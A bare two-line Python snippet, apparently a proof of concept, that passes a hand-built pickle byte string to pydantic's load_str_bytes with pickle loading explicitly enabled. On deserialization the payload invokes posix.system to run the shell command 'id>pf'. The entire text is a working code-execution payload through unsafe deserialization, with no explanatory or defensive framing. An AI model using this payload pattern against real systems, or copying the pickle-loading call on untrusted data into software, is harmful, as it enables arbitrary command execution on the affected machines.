import pydantic.parse as p
p.load_str_bytes(b"cposix\nsystem\n(S'id>pf'\ntR.", proto="pickle", allow_pickle=True)
